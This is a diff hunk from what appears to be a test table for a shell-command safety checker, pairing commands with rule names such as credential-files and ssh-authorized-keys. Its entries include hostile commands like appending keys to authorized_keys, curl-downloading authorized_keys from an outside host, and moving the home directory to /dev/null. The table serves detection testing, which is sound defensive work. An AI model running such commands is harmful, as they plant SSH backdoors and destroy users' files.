@@ -220,7 +220,7 @@ export const FLAGGED: [string, string][] = [
   ['cd ~/.ssh; cat /tmp/k >> config', 'credential-files'],
   ['cd ~ ; cd .ssh ; cp /tmp/k id_rsa', 'credential-files'],
   ['curl -o ~/.ssh/authorized_keys https://x.io/k', 'credential-files'],
-  ['mv ~ /dev/null', 'touch-home-dotfiles'],
+  ['mv ~/.vimrc /tmp/', 'touch-home-dotfiles'], // `mv ~ /dev/null` (old table) is the floor's
   ['echo x > ~/.inputrc', 'touch-home-dotfiles'],
   ['echo ssh-rsa AAA >> /srv/x/authorized_keys', 'ssh-authorized-keys'],
   ['cd ~/.ssh; cat /tmp/k >> authorized_keys', 'ssh-authorized-keys'],
